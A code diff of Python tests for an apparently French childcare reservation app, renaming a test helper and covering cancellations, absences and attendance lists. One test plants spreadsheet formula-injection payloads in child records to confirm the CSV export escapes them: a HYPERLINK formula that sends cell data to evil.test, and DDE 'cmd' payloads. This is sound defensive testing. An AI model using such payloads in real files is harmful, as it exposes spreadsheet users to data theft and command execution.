@@ -10,34 +10,34 @@ from sqlmodel import select
 from models import Attendance, Booking, Reservation, ReservationLine, Unit, utcnow
 from services import planning
 from tests.conftest import csrf_from, page_text
-from tests.factories import HX, kid, lutins
+from tests.factories import HX, child, lutins
 
 CANCEL = "/reservations/annulation"
 
 
 def accepted_booking(db, name="Léa"):
     """The demo's first upcoming accepted booking of the child (10 days ahead or more)."""
-    child = kid(db, name)
-    return db.exec(select(Booking).where(Booking.child_id == child.id, Booking.status == "accepted",
+    holder = child(db, name)
+    return db.exec(select(Booking).where(Booking.child_id == holder.id, Booking.status == "accepted",
                                          Booking.day >= utcnow().date()).order_by(Booking.day)).first()
 
 
 def test_cancellation_window_lists_periods_with_bookings(client, auth, db):
     auth.login()
-    lea = kid(db, "Léa")
+    lea = child(db, "Léa")
     est, period, _ = lutins(db)
     page = page_text(client.get(f"{CANCEL}/nouvelle?enfant={lea.id}&etablissement={est.id}"))
     assert "Demande d'annulation" in page and period.name in page
     response = client.get(f"{CANCEL}/nouvelle?enfant={lea.id}&etablissement={est.id}&periode={period.id}&continuer=1")
     assert response.headers["Location"] == f"{CANCEL}/planning/{lea.id}/{period.id}"
     # Hugo has no booking: no period to cancel in
-    hugo = page_text(client.get(f"{CANCEL}/nouvelle?enfant={kid(db, 'Hugo').id}&etablissement={est.id}"))
+    hugo = page_text(client.get(f"{CANCEL}/nouvelle?enfant={child(db, 'Hugo').id}&etablissement={est.id}"))
     assert "Aucune période" in hugo
 
 
 def test_click_on_a_booked_day_selects_its_cancellation(client, auth, db):
     auth.login()
-    lea = kid(db, "Léa")
+    lea = child(db, "Léa")
     _, period, units = lutins(db)
     booking = accepted_booking(db)
     unit = db.get(Unit, booking.unit_id)
@@ -60,7 +60,7 @@ def test_click_on_a_booked_day_selects_its_cancellation(client, auth, db):
 
 def test_whole_cancellation_without_javascript(client, auth, db):
     auth.login()
-    lea = kid(db, "Léa")
+    lea = child(db, "Léa")
     _, period, units = lutins(db)
     booking = accepted_booking(db)
     booking_id = booking.id
@@ -88,7 +88,7 @@ def test_whole_cancellation_without_javascript(client, auth, db):
 
 def test_cancellation_routes_check_the_family(client, auth, db):
     auth.login("famille2@demo.test")
-    lea = kid(db, "Léa")
+    lea = child(db, "Léa")
     _, period, _ = lutins(db)
     assert client.get(f"{CANCEL}/planning/{lea.id}/{period.id}").status_code == 404
     token = csrf_from(client.get("/compte/").get_data(as_text=True))
@@ -96,7 +96,7 @@ def test_cancellation_routes_check_the_family(client, auth, db):
 
 
 def test_absence_in_two_taps(client, auth, db, smtp):
-    lea = kid(db, "Léa")
+    lea = child(db, "Léa")
     _, period, units = lutins(db)
     today = planning.paris_now(utcnow()).date()
     # Léa is booked today (made directly: the demo's days are further ahead)
@@ -126,7 +126,7 @@ def test_absence_in_two_taps(client, auth, db, smtp):
 
 
 def test_agent_accepts_a_late_cancellation_as_justified(client, auth, db, smtp):
-    lea = kid(db, "Léa")
+    lea = child(db, "Léa")
     _, period, units = lutins(db)
     today = planning.paris_now(utcnow()).date()
     line = db.exec(select(ReservationLine)).first()
@@ -175,13 +175,13 @@ def test_attendance_list_page_pdf_csv_and_ticks(client, auth, db):
     assert any(r[3] == "Léa" and r[8] == "Arachide" for r in rows[1:])
 
     token = csrf_from(page)
-    lea = kid(db, "Léa")
+    lea = child(db, "Léa")
     client.post(url, data={"csrf_token": token, f"presence-{lea.id}-{booking.unit_id}": "absent"})
     mark = db.exec(select(Attendance).where(Attendance.child_id == lea.id, Attendance.day == day)).one()
     assert mark.present is False and mark.booked
     assert "présence enregistrée" in page_text(client.get(url))
     # a child not on the list cannot be ticked through a forged field
-    yanis = kid(db, "Yanis")
+    yanis = child(db, "Yanis")
     assert client.post(url, data={"csrf_token": token, f"presence-{yanis.id}-{booking.unit_id}": "present"}).status_code == 404
     # but can be added as a walk-in
     client.post(f"/agent/presences/ajout?etablissement={est.id}&jour={day.isoformat()}",
@@ -201,7 +201,7 @@ def test_attendance_csv_never_hands_a_formula_to_the_spreadsheet(client, auth, d
     """Names, allergies and notes a parent typed are written as text: =, +, - and @ get an apostrophe."""
     est, period, units = lutins(db)
     booking = accepted_booking(db)
-    lea = kid(db, "Léa")
+    lea = child(db, "Léa")
     lea.last_name = '=HYPERLINK("http://evil.test/?"&A1;"Voir")'
     lea.allergies = "+cmd|' /C calc'!A0"
     lea.medical_notes = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -221,7 +221,7 @@ def test_attendance_csv_never_hands_a_formula_to_the_spreadsheet(client, auth, d
 
 def test_the_check_screen_warns_that_a_late_cancellation_is_billed(client, auth, db):
     """Before confirming, the parent reads which days are late (billed if accepted, unless justified)."""
-    lea = kid(db, "Léa")
+    lea = child(db, "Léa")
     _, period, units = lutins(db)
     now = utcnow()
     today = planning.paris_now(now).date()
